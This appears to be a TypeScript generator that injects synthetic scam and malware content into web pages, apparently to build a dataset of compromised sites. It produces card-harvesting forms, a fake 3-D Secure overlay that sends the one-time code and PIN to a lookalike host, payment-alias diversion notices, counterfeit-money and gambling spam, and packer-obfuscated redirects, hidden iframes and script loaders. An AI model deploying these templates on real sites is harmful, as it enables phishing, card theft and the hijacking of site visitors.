  nl: [(f) => `Niet-opgehaalde koffers van het vliegveld voor maar ${f}!`, (a) => `${a} ruimt zijn depot met verloren bagage op: koffers die al meer dan 90 dagen niet zijn opgehaald, worden gesloten verkocht, inhoud onbekend. Er zijn al laptops, telefoons, sieraden en merkkleding in gevonden. Beperkte voorraad.`, "Mijn koffer reserveren", (m) => `Met uw bestelling wordt u lid van de Mystery Club: na 5 proefdagen wordt ${m} per maand afgeschreven tot u opzegt.`],
  pt: [(f) => `Malas não reclamadas do aeroporto por apenas ${f}!`, (a) => `O ${a} está esvaziando o depósito de bagagens perdidas: malas não reclamadas há mais de 90 dias são vendidas fechadas, conteúdo desconhecido. Já foram encontrados notebooks, celulares, joias e roupas de grife. Estoque limitado.`, "Reservar minha mala", (m) => `Ao pedir, você entra no Clube Mistério: após 5 dias de teste, serão cobrados ${m} por mês até o cancelamento.`],
  it: [(f) => `Valigie non ritirate dell'aeroporto a soli ${f}!`, (a) => `L'${a} svuota il deposito bagagli smarriti: le valigie non ritirate da oltre 90 giorni sono vendute chiuse, contenuto sconosciuto. Dentro sono stati trovati portatili, telefoni, gioielli e abiti firmati. Scorte limitate.`, "Prenota la mia valigia", (m) => `Ordinando entri nel Mystery Club: dopo 5 giorni di prova ti saranno addebitati ${m} al mese fino alla disdetta.`]
}

// "Unclaimed luggage" subscription traps, recalled from memory of 2023 warnings and fact checks (the Better Business Bureau, Which?, and news fact-checkers such as Reuters and Full Fact) about social-media ads in which airports "sell lost suitcases" for a few dollars or euros: the card form signs the buyer up to a recurring subscription in the small print, and no suitcase arrives.
const unclaimedLuggage = fresh11("'unclaimed airport suitcases for 2 euros' offer with a hidden monthly subscription", (page, rng) => {
  const [h, p, cta, small] = siteOr(rng, page, luggageWords)
  const airport = airports[page.site.locale.country] ?? airports.us!
  const fee = page.site.locale.money(pick(rng, [1.95, 1.99, 2, 2.49]))
  const monthly = page.site.locale.money(pick(rng, [49.99, 54.95, 59.9, 69]))
  const host = `${pick(rng, ["lost-luggage", "suitcase", "mystery-bag", "airport-bags", "unclaimed"])}-${pick(rng, ["sale", "deals", "outlet", alnum(rng, 3)])}.${tld(rng)}`
  const action = chance(rng, 0.5)
    ? `<form action="https://${host}/checkout" method="post"><input name="name" placeholder="Name"> <input name="card" autocomplete="cc-number" placeholder="•••• •••• •••• ••••"> <input name="exp" placeholder="MM/YY" size="6"> <input name="cvc" placeholder="CVC" size="4"> <button type="submit">${esc(cta)} – ${esc(fee)}</button></form>`
    : `<p><a href="https://${host}/?utm_source=${alnum(rng, 5)}" style="background:#ff6a00;color:#fff;padding:8px 16px;text-decoration:none;font-weight:bold">${esc(cta)} – ${esc(fee)}</a></p>`
  const box = `<div class="${pick(rng, ["promo", "offer", "deal-box"])}" style="border:2px dashed #ff6a00;padding:12px 16px;margin:12px 0"><h3>🧳 ${esc(h(fee))}</h3><img src="https://${randomDomain(rng)}/${pick(rng, ["bags", "img"])}/suitcases-${digits(rng, 3)}.jpg" width="${between(rng, 200, 320)}" alt=""><p>${esc(p(airport))}</p>${action}<p style="font-size:9px;color:#aaa">${esc(small(monthly))}</p></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), spamSpot(rng, page)]), box))
})

const matkaMarkets = ["Kalyan", "Kalyan Night", "Milan Day", "Milan Night", "Rajdhani Day", "Rajdhani Night", "Main Bazar", "Time Bazar", "Sridevi", "Madhur Day", "Supreme Day", "Kalyan Morning"]
const panna = (rng: Rng) => [between(rng, 0, 9), between(rng, 0, 9), between(rng, 0, 9)].sort((a, b) => a - b).join("")

// Satta-matka gambling spam, recalled from memory with uncertain details of Indian press reports (about 2021–2024) on government, university and company sites (.gov.in, .nic.in, .ac.in among them) hacked to carry "satta matka", "Kalyan result" and "DPBoss" pages and blocks that then showed up in search results: a results chart of the matka markets, "fix jodi" tips from a "guru" on WhatsApp, and links to the results sites, in English and Hindi.
const sattaMatka = fresh11("'satta matka Kalyan result' gambling spam with a results chart and a WhatsApp 'guru'", (page, rng) => {
  const site = () => `https://${pick(rng, ["dpboss", "sattamatka", "kalyanmatka", "matka", "satta-king", "indiasatta"])}${pick(rng, ["", digits(rng, 2), "result", "guru", "boss"])}.${pick(rng, ["net", "services", "in", "com", "co", "mobi", "guru"])}/`
  const rows = sample(rng, matkaMarkets, between(rng, 4, 8)).map((m) => {
    const [a, b] = [panna(rng), panna(rng)]
    const jodi = `${[...a].reduce((x, y) => x + Number(y), 0) % 10}${[...b].reduce((x, y) => x + Number(y), 0) % 10}`
    return `<tr><td><a href="${site()}${slug(m)}-chart">${esc(m.toUpperCase())}</a></td><td><b>${a}-${jodi}-${b}</b></td><td>${String(between(rng, 1, 12)).padStart(2, "0")}:${pick(rng, ["00", "15", "30", "45"])} ${pick(rng, ["AM", "PM"])}</td></tr>`
  }).join("")
  const keywords = sample(rng, ["satta matka", "kalyan matka", "dpboss", "matka result", "satta king", "kalyan chart", "fix jodi", "सट्टा मटका", "कल्याण मटका रिजल्ट", "matka guessing"], between(rng, 3, 6))
  const block = `<div class="${pick(rng, ["matka", "result-box", "sm-" + alnum(rng, 4)])}" style="border:2px solid #ff0;background:#fffbe6;padding:10px;margin:10px 0;text-align:center"><h2 style="color:#c00">${pick(rng, ["SATTA MATKA RESULT TODAY", "KALYAN MATKA | DPBOSS | SATTA MATKA", "Satta Matka Live Result"])} ${chance(rng, 0.5) ? "| सट्टा मटका रिजल्ट" : ""}</h2><table style="margin:auto" border="1" cellpadding="4"><tbody><tr><th>Market</th><th>Result</th><th>Time</th></tr>${rows}</tbody></table><p><b>${pick(rng, ["100% FIX JODI", "Single Ank Fix", "Date Fix Game"])}</b> — ${pick(rng, ["Call / WhatsApp Guru Ji", "Contact Matka Guru", "संपर्क करें"])}: <a href="https://wa.me/91${between(rng, 6, 9)}${digits(rng, 9)}">+91 ${between(rng, 6, 9)}${digits(rng, 4)} ${digits(rng, 5)}</a></p><p>${keywords.map((k) => `<a href="${site()}">${esc(k)}</a>`).join(" · ")}</p></div>`
  return splices(insert(pick(rng, [top(page), spamSpot(rng, page), spamSpot(rng, page)]), block))
})

const counterfeitWords: Record<Lang, readonly [string, string, string]> = {
  en: ["Buy undetectable counterfeit money online", "Grade A banknotes (USD, EUR, GBP) that pass the UV pen and ATM tests, with discreet worldwide shipping. We also supply SSD chemical solution and activation powder to clean black and defaced notes.", "Order on WhatsApp"],
  fr: ["Achetez des faux billets indétectables en ligne", "Billets de qualité A (USD, EUR, GBP) qui passent le stylo UV et les distributeurs, livraison discrète dans le monde entier. Nous fournissons aussi la solution chimique SSD et la poudre d'activation pour nettoyer les billets noircis.", "Commander sur WhatsApp"],
  de: ["Unauffälliges Falschgeld online kaufen", "Banknoten der Güteklasse A (USD, EUR, GBP), die UV-Stift und Geldautomaten bestehen, diskreter weltweiter Versand. Außerdem liefern wir SSD-Chemielösung und Aktivierungspulver zum Reinigen geschwärzter Scheine.", "Per WhatsApp bestellen"],
  es: ["Compre billetes falsos indetectables en línea", "Billetes de grado A (USD, EUR, GBP) que pasan el rotulador UV y los cajeros, con envío discreto a todo el mundo. También suministramos solución química SSD y polvo activador para limpiar billetes negros.", "Pedir por WhatsApp"],
  nl: ["Koop ondetecteerbaar vals geld online", "Bankbiljetten van klasse A (USD, EUR, GBP) die de UV-pen en geldautomaten doorstaan, met discrete verzending wereldwijd. Ook leveren we SSD-chemische oplossing en activeringspoeder om zwarte biljetten te reinigen.", "Bestellen via WhatsApp"],
  pt: ["Compre dinheiro falso indetectável online", "Cédulas grau A (USD, EUR, GBP) que passam na caneta UV e nos caixas eletrônicos, com envio discreto para todo o mundo. Também fornecemos solução química SSD e pó ativador para limpar notas pretas.", "Pedir pelo WhatsApp"],
  it: ["Compra banconote false non rilevabili online", "Banconote di grado A (USD, EUR, GBP) che superano la penna UV e i bancomat, con spedizione discreta in tutto il mondo. Forniamo anche la soluzione chimica SSD e la polvere attivante per pulire le banconote annerite.", "Ordina su WhatsApp"]
}

// Counterfeit-currency and "black money" spam, recalled from memory of the US Secret Service's and Europol's warnings about counterfeit notes sold online (Europol's euro-counterfeiting reports, about 2019–2023), and of the "wash-wash" or black-money scam in which victims buy an "SSD chemical solution" to clean dyed notes (FBI and Interpol warnings); such advertisements fill comment sections and pages of hacked sites with "buy undetectable counterfeit money" keyword links and a WhatsApp or Telegram number.
const counterfeitMoney = fresh11("'buy undetectable counterfeit banknotes and SSD chemical for black money' spam", (page, rng) => {
  const [h, p, cta] = siteOr(rng, page, counterfeitWords)
  const shop = () => `https://${pick(rng, ["undetectable", "counterfeit", "bestfake", "prop", "ssd-chemical", "grade-a"])}${pick(rng, ["notes", "money", "bills", "cash", "solution"])}${pick(rng, ["", digits(rng, 2), "shop"])}.${pick(rng, ["com", "net", "org", "shop", "store", "online"])}/${pick(rng, ["", "product/" + pick(rng, ["euro", "usd", "gbp", "ssd"]), "shop"])}`
  const keys = sample(rng, ["buy counterfeit money", "undetectable counterfeit money", "fake euro banknotes", "ssd chemical solution", "black money cleaning", "buy fake dollars", "counterfeit money for sale", "prop money grade A"], between(rng, 3, 6))
  const block = `<div class="${pick(rng, ["comment", "post", "entry", "ad"])}" style="margin:10px 0;padding:10px;border:1px solid #eee"><h3>💵 ${esc(h)}</h3><p>${esc(p)}</p><p><strong>${esc(cta)}:</strong> ${intlMobile(rng)} · Telegram @${pick(rng, ["fakenotes", "ssdsolution", "moneyking", "cashprop"])}${digits(rng, 3)} · <a href="${shop()}">${esc(pick(rng, ["Visit our shop", "www", "Website"]))}</a></p><p>${keys.map((k) => `<a href="${shop()}">${esc(k)}</a>`).join(", ")}</p></div>`
  return splices(insert(spamSpot(rng, page), block))
})

const instantWords: Record<Lang, readonly [string, (m: string, a: string) => string]> = {
  en: ["Card payments temporarily unavailable", (m, a) => `Our card terminal is being replaced. To complete your order, booking or donation, pay with ${m} to ${a}, put your order number as the reference, and send us the receipt.`],
  fr: ["Paiement par carte momentanément indisponible", (m, a) => `Notre terminal de paiement est en cours de remplacement. Pour finaliser votre commande, réservation ou don, payez par ${m} au ${a} en indiquant votre numéro de commande, puis envoyez-nous le justificatif.`],
  de: ["Kartenzahlung vorübergehend nicht möglich", (m, a) => `Unser Kartenterminal wird ausgetauscht. Um Bestellung, Buchung oder Spende abzuschließen, zahlen Sie bitte mit ${m} an ${a}, mit Ihrer Bestellnummer als Verwendungszweck, und senden Sie uns den Beleg.`],
  es: ["Pago con tarjeta no disponible temporalmente", (m, a) => `Estamos cambiando nuestro terminal de pago. Para completar su pedido, reserva o donativo, pague con ${m} al ${a} indicando su número de pedido como concepto y envíenos el justificante.`],
  nl: ["Betalen met kaart tijdelijk niet mogelijk", (m, a) => `Onze betaalterminal wordt vervangen. Rond uw bestelling, boeking of donatie af door te betalen met ${m} aan ${a}, met uw bestelnummer als omschrijving, en stuur ons het bewijs.`],
  pt: ["Pagamento com cartão temporariamente indisponível", (m, a) => `Estamos trocando nossa maquininha. Para concluir seu pedido, reserva ou doação, pague com ${m} para ${a}, informe o número do pedido na descrição e envie-nos o comprovante.`],
  it: ["Pagamento con carta temporaneamente non disponibile", (m, a) => `Stiamo sostituendo il terminale di pagamento. Per completare ordine, prenotazione o donazione, paga con ${m} a ${a}, indicando il numero d'ordine nella causale, e inviaci la ricevuta.`]
}
/** The country's instant-payment method and an alias an attacker can open with a prepaid SIM or a mule account. */
const instantAlias = (rng: Rng, page: Page): readonly [string, string] => {
  const who = `${page.site.brand.replace(/-/g, "")}${pick(rng, ["", ".pay", "-orders", ".team"])}`
  switch (page.site.locale.country) {
    case "es": return ["Bizum", `+34 6${digits(rng, 2)} ${digits(rng, 3)} ${digits(rng, 3)}`]
    case "nl": return ["Tikkie", `https://tikkie.me/pay/${upper(rng, 4)}/${alnum(rng, 12)}`]
    case "br": return ["PIX", `chave ${hex(rng, 8)}-${hex(rng, 4)}-4${hex(rng, 3)}-a${hex(rng, 3)}-${hex(rng, 12)}`]
    case "in": return ["UPI", `${who.replace(/[^a-z0-9.]/gi, "").toLowerCase()}${digits(rng, 2)}@${pick(rng, ["okaxis", "ybl", "okhdfcbank", "paytm", "ibl"])}`]
    case "au": return ["PayID", `${who.toLowerCase()}${digits(rng, 2)}@${freeMail(rng)}`]
    case "uk": return ["Monzo", `https://monzo.me/${pick(rng, ["james", "sarah", "daniel", "emma"])}${pick(rng, ["smith", "jones", "taylor"])}${digits(rng, 2)}`]
    case "fr": return ["Wero", `06 ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)} ${digits(rng, 2)}`]
    case "de": return ["Wero", `+49 15${digits(rng, 1)} ${digits(rng, 7)}`]
    case "it": return ["una ricarica PostePay", `${pick(rng, ["5333 17", "4023 60"])}${digits(rng, 2)} ${digits(rng, 4)} ${digits(rng, 4)}`]
    default: return ["Zelle", pick(rng, [`${who.toLowerCase()}${digits(rng, 2)}@${freeMail(rng)}`, `(${between(rng, 201, 989)}) ${digits(rng, 3)}-${digits(rng, 4)}`])]
  }
}

// Payments diverted to instant-payment aliases, recalled from memory of The New York Times' report "Fraud Is Flourishing on Zelle. The Banks Say It's Not Their Problem." (March 2022), the Australian ACCC Scamwatch warnings about PayID scams (2022–2023), Spanish Guardia Civil and INCIBE warnings about Bizum fraud, Indian police advisories on UPI fraud, and Italian warnings about PostePay top-up scams: instant transfers to a phone number or e-mail alias cannot be reversed, so the notice on the site asks customers to pay that way, to the attacker's alias, "while the card terminal is replaced".
const instantPaymentAlias = fresh11("'card payments unavailable, pay by Bizum, Zelle, PayID, UPI or Tikkie to this alias' notice", (page, rng) => {
  const [h, p] = siteOr(rng, page, instantWords)
  const [method, alias] = instantAlias(rng, page)
  const shownAlias = /^https?:/.test(alias) ? `<a href="${esc(alias)}">${esc(alias)}</a>` : `<strong>${esc(alias)}</strong>`
  const box = `<div class="${pick(rng, ["payment-notice", "notice", "checkout-info"])}" style="border:1px solid #e0a800;background:#fff8e1;padding:10px 14px;margin:10px 0"><strong>${esc(h)}</strong><p>${esc(p(method, "\u0000")).replace("\u0000", shownAlias)}</p></div>`
  const f = forms(page).find((e) => !(e.attribs.class ?? "").includes("newsletter"))
  return splices(insert(f !== undefined && chance(rng, 0.5) ? f.start : noticeSpot(rng, page), box))
})

const tdsWords: Record<Lang, readonly [string, (m: string, a: string, c: string) => string, string, string, string]> = {
  en: ["Verify your payment", (m, a, c) => `Merchant: ${m} · Amount: ${a} · Card: •••• ${c}. Enter the one-time passcode sent to your phone and your card PIN to approve this purchase.`, "One-time passcode", "Card PIN", "Confirm"],
  fr: ["Vérifiez votre paiement", (m, a, c) => `Commerçant : ${m} · Montant : ${a} · Carte : •••• ${c}. Saisissez le code à usage unique reçu par SMS et le code PIN de votre carte pour valider cet achat.`, "Code reçu par SMS", "Code PIN de la carte", "Valider"],
  de: ["Zahlung bestätigen", (m, a, c) => `Händler: ${m} · Betrag: ${a} · Karte: •••• ${c}. Geben Sie den per SMS gesendeten Einmalcode und die PIN Ihrer Karte ein, um diesen Kauf freizugeben.`, "Einmalcode (SMS)", "Karten-PIN", "Bestätigen"],
  es: ["Verifique su pago", (m, a, c) => `Comercio: ${m} · Importe: ${a} · Tarjeta: •••• ${c}. Introduzca el código de un solo uso enviado a su móvil y el PIN de su tarjeta para autorizar esta compra.`, "Código de un solo uso", "PIN de la tarjeta", "Confirmar"],
  nl: ["Bevestig uw betaling", (m, a, c) => `Winkelier: ${m} · Bedrag: ${a} · Kaart: •••• ${c}. Voer de eenmalige code in die naar uw telefoon is gestuurd en de pincode van uw kaart om deze aankoop goed te keuren.`, "Eenmalige code", "Pincode van de kaart", "Bevestigen"],
  pt: ["Verifique seu pagamento", (m, a, c) => `Estabelecimento: ${m} · Valor: ${a} · Cartão: •••• ${c}. Digite o código enviado por SMS e a senha do seu cartão para aprovar esta compra.`, "Código por SMS", "Senha do cartão", "Confirmar"],
  it: ["Verifica il pagamento", (m, a, c) => `Esercente: ${m} · Importo: ${a} · Carta: •••• ${c}. Inserisci il codice monouso inviato al tuo telefono e il PIN della carta per autorizzare l'acquisto.`, "Codice monouso", "PIN della carta", "Conferma"]
}

// Fake 3-D Secure checks, recalled from memory of Group-IB's analysis of the 16Shop phishing kit (about 2020) and other kits that add a "Verified by Visa" or "Mastercard SecureCode" page asking for the one-time code and the card PIN, and of UK Finance's and banks' reminders that a bank never asks for a PIN online: a window styled like the card scheme's check, naming the site as merchant, over or inside the page, posting the code and PIN to another host.
const fakeThreeDSecure = fresh11("fake 3-D Secure window ('Verified by Visa', 'Mastercard ID Check') asking for the one-time code and the card PIN", (page, rng) => {
  const [h, p, otp, pin, ok] = siteOr(rng, page, tdsWords)
  const scheme = pick(rng, ["Visa Secure", "Verified by Visa", "Mastercard ID Check", "Mastercard SecureCode", "American Express SafeKey"])
  const amount = page.site.locale.money(between(rng, 19, 480) + pick(rng, [0, 0.5, 0.99]))
  const post = `https://${pick(rng, [`${pick(rng, ["3ds", "acs", "secure", "verify"])}-${pick(rng, ["visa", "mastercard", "card", "bank"])}-${alnum(rng, 3)}.${tld(rng)}`, brandLookalike(rng, page.site.brand), randomDomain(rng)])}/${pick(rng, ["acs/verify.php", "3ds/challenge", "pareq", "auth.php"])}`
  const overlay = chance(rng, 0.6)
  const card = `<div style="max-width:400px;margin:${overlay ? "14vh auto" : "12px 0"};background:#fff;border:1px solid #bbb;padding:18px 22px;font-family:Arial,sans-serif"><p style="display:flex;justify-content:space-between;margin:0 0 8px"><strong style="color:#1a1f71">${esc(scheme)}</strong><span style="color:#777">🔒</span></p><h3>${esc(h)}</h3><p style="font-size:13px">${esc(p(brandName(page), amount, digits(rng, 4)))}</p><form action="${esc(post)}" method="post"><p><input name="otp" inputmode="numeric" autocomplete="one-time-code" placeholder="${esc(otp)}" style="width:100%"></p><p><input name="pin" type="password" inputmode="numeric" maxlength="6" placeholder="${esc(pin)}" style="width:100%"></p><button type="submit" style="width:100%;background:#1a1f71;color:#fff;border:0;padding:8px">${esc(ok)}</button></form></div>`
  const block = overlay ? `<div class="${pick(rng, ["tds-modal", "acs-overlay", "secure-check"])}" style="position:fixed;inset:0;z-index:${zIndex(rng)};background:rgba(0,0,0,.55)">${card}</div>` : card
  return splices(insert(pick(rng, [top(page), bottom(page), noticeSpot(rng, page)]), block))
})

const base62 = (c: number): string => (c < 62 ? "" : base62(Math.floor(c / 62))) + (c % 62 > 35 ? String.fromCharCode((c % 62) + 29) : (c % 62).toString(36))
/** `code` packed with Dean Edwards' packer (base 62, the "eval(function(p,a,c,k,e,d)" wrapper). */
const pack = (code: string): string => {
  const counts = new Map<string, number>()
  for (const w of code.match(/\b\w+\b/g) ?? []) counts.set(w, (counts.get(w) ?? 0) + 1)
  const words = [...counts.entries()].sort((a, b) => b[1] - a[1] || (a[0] < b[0] ? -1 : 1)).map(([w]) => w)
  const index = new Map(words.map((w, i) => [w, i]))
  const packed = code.replace(/\b\w+\b/g, (w) => base62(index.get(w)!)).replace(/\\/g, "\\\\").replace(/'/g, "\\'")
  const keywords = words.map((w, i) => (w === base62(i) ? "" : w)).join("|")
  return String.raw`eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('${packed}',62,${words.length},'${keywords}'.split('|'),0,{}))`
}

// Injections packed with Dean Edwards' JavaScript packer, recalled from memory of that tool (about 2004–2007) and of Sucuri's and Unmask Parasites' write-ups on hacked sites (2010s) where redirects, hidden iframes and loaders arrive wrapped in its tell-tale "eval(function(p,a,c,k,e,d)" (or "e,r") function, the code turned into base-62 tokens and a "|"-separated word list.
const packerLoader = fresh11("redirect, hidden iframe or loader packed with Dean Edwards' packer (eval(function(p,a,c,k,e,d)...))", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), libLookalike(rng), brandLookalike(rng, page.site.brand)])
  const url = `https://${host}/${pick(rng, ["js/jquery.min.js", "go.php?s=" + alnum(rng, 5), "in/" + alnum(rng, 6), "t.js", "?r=" + digits(rng, 4)])}`
  const ck = `_${alnum(rng, 3)}`
  const code = pick(rng, [
    `var s=document.createElement('script');s.type='text/javascript';s.async=true;s.src='${url}';var x=document.getElementsByTagName('script')[0];x.parentNode.insertBefore(s,x);`,
    `if(document.referrer.match(/google|bing|yahoo|duckduckgo/i)&&document.cookie.indexOf('${ck}=')==-1){document.cookie='${ck}=1;path=/;max-age=86400';window.location.href='${url}'}`,
    `document.write('<iframe src="${url}" width="1" height="1" frameborder="0" style="visibility:hidden;position:absolute;left:-1000px"></iframe>');`,
    `var ua=navigator.userAgent;if(/Android|iPhone|iPad|Mobile/i.test(ua)&&!/bot|crawl|spider/i.test(ua)){setTimeout(function(){window.location.replace('${url}')},${between(rng, 500, 4000)})}`
  ])
  return splices(insert(scriptSpot(rng, page), `<script${pick(rng, ["", ' type="text/javascript"', ' language="javascript"'])}>${pack(code)}</script>`))
})

const firstNames = ["Margaret", "Robert", "Linda", "James", "Maria", "Jean", "Hans", "Carmen", "Pieter", "Giuseppe", "Ana", "Michael", "Elisabeth", "José", "Patricia", "Wilhelm", "Sandra", "Paolo"]
const lastNames = ["Thompson", "Miller", "Dubois", "Schneider", "García", "de Vries", "Rossi", "Silva", "Walker", "Martin", "Fischer", "López", "Janssen", "Bianchi", "Santos", "Hughes"]
const personName = (rng: Rng) => `${pick(rng, firstNames)} ${pick(rng, lastNames)}`

const funeralWords: Record<Lang, readonly [(n: string) => string, (d: string, t: string) => string, string, string]> = {
  en: [(n) => `Funeral service of ${n} – watch the live stream`, (d, t) => `The service will be streamed live on ${d} at ${t} for family and friends who cannot attend in person. Registration is free; a card is only needed to confirm that you are over 18, and you will not be charged.`, "Watch the live stream", "Register to watch"],
  fr: [(n) => `Obsèques de ${n} – suivez la retransmission en direct`, (d, t) => `La cérémonie sera retransmise en direct le ${d} à ${t} pour les proches qui ne peuvent pas se déplacer. L'inscription est gratuite ; une carte bancaire est seulement demandée pour vérifier que vous êtes majeur, aucun débit ne sera effectué.`, "Regarder le direct", "S'inscrire pour regarder"],
  de: [(n) => `Trauerfeier für ${n} – Livestream`, (d, t) => `Die Trauerfeier wird am ${d} um ${t} live übertragen, für Familie und Freunde, die nicht persönlich kommen können. Die Anmeldung ist kostenlos; eine Karte wird nur zur Altersprüfung benötigt, es erfolgt keine Abbuchung.`, "Zum Livestream", "Zum Zuschauen anmelden"],
  es: [(n) => `Funeral de ${n} – vea la retransmisión en directo`, (d, t) => `La ceremonia se retransmitirá en directo el ${d} a las ${t} para familiares y amigos que no puedan asistir. El registro es gratuito; la tarjeta solo se pide para verificar que es mayor de edad y no se le cobrará nada.`, "Ver el directo", "Registrarse para verlo"],
  nl: [(n) => `Uitvaart van ${n} – volg de livestream`, (d, t) => `De dienst wordt op ${d} om ${t} live uitgezonden voor familie en vrienden die er niet bij kunnen zijn. Registreren is gratis; een kaart is alleen nodig om te bevestigen dat u 18+ bent, er wordt niets afgeschreven.`, "Livestream bekijken", "Registreren om te kijken"],
  pt: [(n) => `Velório de ${n} – assista à transmissão ao vivo`, (d, t) => `A cerimônia será transmitida ao vivo em ${d} às ${t} para familiares e amigos que não puderem comparecer. O cadastro é gratuito; o cartão é pedido apenas para confirmar que você é maior de idade, sem nenhuma cobrança.`, "Assistir ao vivo", "Cadastrar-se para assistir"],
  it: [(n) => `Funerale di ${n} – segui la diretta streaming`, (d, t) => `La cerimonia sarà trasmessa in diretta il ${d} alle ${t} per familiari e amici che non possono essere presenti. La registrazione è gratuita; la carta serve solo a verificare la maggiore età e non sarà addebitato nulla.`, "Guarda la diretta", "Registrati per guardare"]
}

// Funeral live-stream scams, recalled from memory of Better Business Bureau scam alerts and local US and UK news reports (2022–2023) about social-media posts that promise the live stream of a named person's funeral and send mourners to pages asking for card details "to verify age", in the name of the family or the funeral home: here the notice, with the deceased's photo and the service's date and time, links to such a page or carries the card form itself.
const funeralStream = fresh11("'watch the funeral live stream' notice that asks mourners for card details (funeral live-stream scam)", (page, rng) => {
  const [h, p, watch, reg] = siteOr(rng, page, funeralWords)
  const name = personName(rng)
  const host = pick(rng, [`${slug(name)}-funeral-live.${tld(rng)}`, `live-funeral-${digits(rng, 3)}.${tld(rng)}`, `${pick(rng, ["memorial", "funeral", "rip"])}stream${digits(rng, 2)}.${tld(rng)}`, randomDomain(rng)])
  const url = `https://${host}/${pick(rng, ["watch", "live", "stream/" + slug(name), "register"])}`
  const time = `${between(rng, 10, 16)}:${pick(rng, ["00", "30"])}`
  const action = chance(rng, 0.35)
    ? `<form action="${esc(url)}" method="post"><input name="name" placeholder="${esc(personName(rng).split(" ")[0]!)}…"> <input name="card" autocomplete="cc-number" placeholder="•••• •••• •••• ••••"> <input name="exp" placeholder="MM/YY" size="6"> <input name="cvv" placeholder="CVV" size="4"> <button type="submit">${esc(reg)}</button></form>`
    : `<p><a href="${esc(url)}" style="background:#333;color:#fff;padding:8px 16px;text-decoration:none">▶ ${esc(watch)}</a></p>`
  const box = `<div class="${pick(rng, ["memorial", "funeral-notice", "live-stream"])}" style="border:1px solid #999;padding:14px;margin:12px 0;max-width:560px"><h3>🕊 ${esc(h(name))}</h3><img src="https://${randomDomain(rng)}/${pick(rng, ["img", "photos", "rip"])}/${slug(name)}.jpg" width="${between(rng, 120, 200)}" alt="${esc(name)}"><p>${esc(p(dateOf(rng, page), time))}</p>${action}</div>`
  return splices(insert(pick(rng, [noticeSpot(rng, page), spamSpot(rng, page)]), box))
})

const autolinkTopics = ["online-casino", "buy-viagra", "payday-loans", "replica-watches", "cbd-oil", "crypto-casino", "essay-writing", "buy-tramadol", "sports-betting", "slot-gacor"]

// Keywords of the site's own text turned into spam links, recalled from memory of Google's spam policies on link schemes and of SEO-spam clean-ups (Sucuri and Wordfence posts, about 2015–2023, with uncertain details) where injected code or a hijacked "auto-link" plugin wrapped ordinary words of existing posts in links to casino, pharmacy and loan pages, so the anchor text is the site's own and no sentence is added.
const keywordAutolinks = fresh11("ordinary words in the site's own paragraphs wrapped in links to spam pages (keyword auto-linking)", (page, rng) => {
  const topic = pick(rng, autolinkTopics)
  const host = pick(rng, [`${topic}-${pick(rng, ["guide", "shop", "online", "review"])}.${tld(rng)}`, `${topic.replace(/-/g, "")}${digits(rng, 2)}.${tld(rng)}`, randomDomain(rng)])
  const blocked = (run: { parent: number }) => { const el = elAt(page, run.parent); return ["a", "button", "select", "option", "label", "title", "h1"].some((n) => inside(page, el, n)) }
  const runs = sample(rng, textRuns(page, 40).filter((t) => !blocked(t)), between(rng, 2, 6))
  const out: Array<Splice> = []
  for (const run of runs) {
    const raw = page.html.slice(run.start, run.end)
    const words = [...raw.matchAll(/[A-Za-zÀ-ÖØ-öø-ÿ]{5,}/g)].filter((m) => raw[m.index! - 1] !== "&" && raw[m.index! - 1] !== "#" && raw[m.index! + m[0].length] !== ";")
    for (const m of sample(rng, words, between(rng, 1, 2)).sort((a, b) => a.index! - b.index!)) {
      const at = run.start + m.index!
      if (out.some((o) => Math.abs(o.at - at) < 2)) continue
      const title = chance(rng, 0.4) ? ` title="${esc(topic.replace(/-/g, " "))}"` : ""
      out.push(replace({ start: at, end: at + m[0].length }, `<a href="https://${host}/${pick(rng, [slug(m[0]), topic, "?ref=" + slug(m[0])])}"${title}${chance(rng, 0.3) ? ' style="color:inherit;text-decoration:none"' : ""}>${m[0]}</a>`))
    }
  }
  if (out.length === 0) out.push(insert(anySlot(rng, page.spots), `<p><a href="https://${host}/">${esc(topic.replace(/-/g, " "))}</a></p>`))
  return { splices: out }
})

const lightningWords: Record<Lang, string> = {
  en: "Tip us instantly over Lightning", fr: "Soutenez-nous instantanément via Lightning", de: "Unterstützen Sie uns sofort über Lightning", es: "Apóyenos al instante con Lightning",
  nl: "Steun ons direct via Lightning", pt: "Apoie-nos na hora via Lightning", it: "Sostienici subito con Lightning"
}

// Crypto payment details swapped into Lightning Network forms, recalled from memory of the Lightning Address scheme (Andre Neves, 2021; name@domain addresses that wallets resolve over LNURL-pay) and of LNURL strings and their QR codes, extending the wallet-swap reports (Sucuri and Malwarebytes on injected clippers and swapped donation addresses) to a format in which no Bitcoin address appears at all; the writer knows of no report naming this exact swap. The site's wallet address becomes the attacker's Lightning address or LNURL (with a QR code from a public QR service); a site without one gains a "tip us over Lightning" line.
const lightningSwap = fresh11("site's crypto address replaced by the attacker's Lightning address or LNURL (with a QR code)", (page, rng) => {
  const who = pick(rng, [page.site.brand.replace(/-/g, ""), `${page.site.brand.replace(/-/g, "")}${pick(rng, ["tips", "donate", "fund"])}`, brandLookalike(rng, page.site.brand).split(".")[0]!.replace(/-/g, "")])
  const address = `${who.toLowerCase()}${pick(rng, ["", digits(rng, 2)])}@${pick(rng, ["walletofsatoshi.com", "getalby.com", "strike.me", "blink.sv", "coinos.io", "stacker.news", "zbd.gg"])}`
  const lnurl = `LNURL1DP68GURN8GHJ7${charsOf(rng, "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L", between(rng, 70, 110))}`
  const value = chance(rng, 0.65) ? address : lnurl
  const size = pick(rng, [120, 150, 200])
  const qr = chance(rng, 0.4) ? ` <img src="https://api.qrserver.com/v1/create-qr-code/?size=${size}x${size}&amp;data=lightning:${value}" alt="⚡" width="${size}" height="${size}">` : ""
  const shownValue = value === lnurl ? `<code style="word-break:break-all">${value}</code>` : `<strong>${esc(value)}</strong>`
  const w = page.ids.wallet
  const out: Array<Splice> = w === null ? [] : swapShown(page, [[w.address, "\u0000"]], () => `⚡ ${shownValue}${qr}`)
  if (out.length === 0) {
